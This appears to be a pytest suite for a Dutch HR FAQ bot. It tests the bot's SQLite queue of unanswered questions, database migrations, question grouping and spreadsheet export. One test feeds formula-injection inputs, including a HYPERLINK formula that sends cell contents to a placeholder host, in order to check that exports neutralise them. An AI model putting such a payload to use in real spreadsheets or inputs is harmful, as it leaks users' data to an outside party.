"""HR's review queue: unanswered questions are kept with their near misses, in SQLite."""

from __future__ import annotations

import datetime as dt
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from opleidingsbot.bot.opslag.database import MIGRATIES, Database, open_database, verbind
from opleidingsbot.bot.opslag.wachtrij import Wachtrij
from opleidingsbot.knowledge.faq import laad_faq
from opleidingsbot.knowledge.matcher import Matcher, Uitkomst
from tests.conftest import opleidingsbot


@pytest.fixture(scope="module")
def matcher() -> Matcher:
    return Matcher(laad_faq())


def test_unknown_question_is_queued_with_near_misses(
    open_opslag: Callable[[], Database], matcher: Matcher
) -> None:
    wachtrij = Wachtrij(open_opslag())
    uitkomst = matcher.zoek("mag ik mijn opleiding in de auto van de zaak volgen", "haarlem")
    moment = dt.datetime(2026, 11, 23, 9, 30, tzinfo=dt.UTC)
    wachtrij.bewaar("haarlem", uitkomst, "onbekend", moment)
    [rij] = wachtrij.open_vragen("haarlem")
    assert rij.vraag == "mag ik mijn opleiding in de auto van de zaak volgen"
    assert rij.soort == "onbekend" and rij.tijd == moment and rij.status == "open"
    ids = [b["id"] for b in rij.bijna]
    assert len(ids) == len(set(ids)) <= 3
    if uitkomst.beste:
        assert ids[0] == uitkomst.beste.vraag.id
    assert wachtrij.open_vragen("capelle-aan-den-ijssel") == []


def test_queue_survives_reopening_and_keeps_no_identity(
    open_opslag: Callable[[], Database], matcher: Matcher
) -> None:
    Wachtrij(open_opslag()).bewaar(
        "kaag-en-braassem",
        matcher.zoek("hoe laat gaat de kantine open", "kaag-en-braassem"),
        "onbekend",
    )
    opnieuw = open_opslag()
    sql = (
        "SELECT name FROM pragma_table_info('onbeantwoord')"
        if opnieuw.dialect == "sqlite"
        else "SELECT column_name AS name FROM information_schema.columns"
        " WHERE table_name = 'onbeantwoord'"
    )
    kolommen = {r["name"] for r in opnieuw.execute(sql)}
    assert kolommen == {
        "id",
        "gemeente",
        "vraag",
        "soort",
        "tijd",
        "bijna",
        "status",
        "sleutel",
        "groep",
    }
    assert [v.vraag for v in Wachtrij(opnieuw).open_vragen()] == ["hoe laat gaat de kantine open"]


def test_migration_keeps_existing_data(tmp_path: Path) -> None:
    pad = tmp_path / "db.sqlite3"
    oud = open_database(pad, MIGRATIES[:1])
    oud.execute(
        "INSERT INTO onbeantwoord (gemeente, vraag, soort, tijd)"
        " VALUES ('haarlem', 'x', 'onbekend', 't')"
    )
    oud.close()
    nieuw = open_database(pad, [*MIGRATIES, "CREATE TABLE proef (id INTEGER PRIMARY KEY)"])
    assert nieuw.execute("PRAGMA user_version").fetchone()[0] == len(MIGRATIES) + 1
    assert nieuw.execute("SELECT vraag FROM onbeantwoord").fetchone()[0] == "x"


def test_failed_migration_changes_nothing(tmp_path: Path) -> None:
    pad = tmp_path / "db.sqlite3"
    open_database(pad).close()
    with pytest.raises(sqlite3.OperationalError):
        open_database(
            pad, [*MIGRATIES, "CREATE TABLE a (id INTEGER); CREATE TABLE a (id INTEGER)"]
        )
    db = open_database(pad)
    assert db.execute("PRAGMA user_version").fetchone()[0] == len(MIGRATIES)
    assert db.execute("SELECT count(*) FROM sqlite_master WHERE name = 'a'").fetchone()[0] == 0


def test_newer_database_is_refused_clearly(tmp_path: Path) -> None:
    pad = tmp_path / "db.sqlite3"
    open_database(pad, [*MIGRATIES, "CREATE TABLE later (id INTEGER)"]).close()
    with pytest.raises(RuntimeError, match="nieuwere versie"):
        open_database(pad)


def test_ask_queues_unknown_questions_only_when_asked(tmp_path: Path) -> None:
    import os

    data = Path(os.environ["OPLEIDINGSBOT_DATA_MAP"])
    voor = len(Wachtrij(open_database(data / "opleidingsbot.sqlite3")).open_vragen("haarlem"))
    uit = opleidingsbot(
        "ask", "waar kan ik mijn fiets stallen", "--gemeente", "haarlem", "--wachtrij"
    )
    assert uit.returncode == 0 and "weet ik niet" in uit.stdout
    # a try-out from the command line stays out of HR's queue
    opleidingsbot("ask", "waar kan ik mijn fiets stallen", "--gemeente", "haarlem")
    opleidingsbot(
        "ask",
        "hoeveel studieverlof krijg ik voor een hbo opleiding",
        "--gemeente",
        "haarlem",
        "--wachtrij",
    )
    vragen = Wachtrij(open_database(data / "opleidingsbot.sqlite3")).open_vragen("haarlem")
    assert len(vragen) == voor + 1
    assert vragen[-1].vraag == "waar kan ik mijn fiets stallen"


def test_queue_groups_similar_questions_and_exports_to_a_spreadsheet(tmp_path: Path) -> None:
    import os

    from opleidingsbot.knowledge.spreadsheet import lees_spreadsheet

    data = tmp_path / "data"
    omgeving = {**os.environ, "OPLEIDINGSBOT_DATA_MAP": str(data)}
    for vraag in ("Mag de hond mee naar de les?", "mag de hond mee naar de les", "Is er koffie?"):
        opleidingsbot("ask", vraag, "--gemeente", "haarlem", "--wachtrij", omgeving=omgeving)
    lijst = opleidingsbot("vragen", omgeving=omgeving)
    regels = lijst.stdout.splitlines()
    assert regels[0].startswith("  2x  haarlem  Mag de hond mee naar de les?"), regels
    for naam in ("wachtrij.csv", "wachtrij.xlsx"):
        uit = opleidingsbot("vragen", "export", str(tmp_path / naam), omgeving=omgeving)
        assert uit.returncode == 0, uit.stderr
        rijen = [r for _, r in lees_spreadsheet(tmp_path / naam, ("vraag", "aantal", "gemeente"))]
        assert [(r["vraag"], r["aantal"]) for r in rijen] == [
            ("Mag de hond mee naar de les?", "2"),
            ("Is er koffie?", "1"),
        ]


def test_no_exported_cell_starts_like_a_formula(tmp_path: Path) -> None:
    import csv
    import os

    omgeving = {**os.environ, "OPLEIDINGSBOT_DATA_MAP": str(tmp_path / "data")}
    aanval = [
        '=HYPERLINK("http://x.example/?"&A1;"klik")',
        "+mag de hond mee naar kantoor",
        "-waar staat de koffieautomaat",
        "@SUM(A1) waar kan ik parkeren",
    ]
    for vraag in aanval:
        opleidingsbot("ask", vraag, "--gemeente", "haarlem", "--wachtrij", omgeving=omgeving)
    pad = tmp_path / "wachtrij.csv"
    assert opleidingsbot("vragen", "export", str(pad), omgeving=omgeving).returncode == 0
    with pad.open(encoding="utf-8-sig", newline="") as f:
        cellen = [c for rij in csv.reader(f, delimiter=";") for c in rij]
    assert cellen and not [c for c in cellen if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    from opleidingsbot.knowledge.spreadsheet import lees_spreadsheet

    gelezen = {r["vraag"] for _, r in lees_spreadsheet(pad, ("vraag",))}
    assert gelezen == set(aanval)


def test_questions_queued_before_groups_were_kept_are_grouped(opslag_doel: Path | str) -> None:
    oud = verbind(opslag_doel, MIGRATIES[:3])
    for vraag in ("Mag de hond mee naar de les?", "mag de hond mee naar de les", "Is er koffie?"):
        oud.execute(
            "INSERT INTO onbeantwoord (gemeente, vraag, soort, tijd, bijna)"
            " VALUES ('haarlem', ?, 'onbekend', '2026-11-01T10:00:00+00:00', '[]')",
            (vraag,),
        )
    oud.close()
    wachtrij = Wachtrij(verbind(opslag_doel))
    assert [len(g.vragen) for g in wachtrij.groepen("haarlem")] == [2, 1]
    # a new question joins the group of the old ones
    wachtrij.bewaar("haarlem", Uitkomst("onbekend", "Mag de hond mee naar de les"), "onbekend")
    assert [len(g.vragen) for g in wachtrij.groepen("haarlem")] == [3, 1]
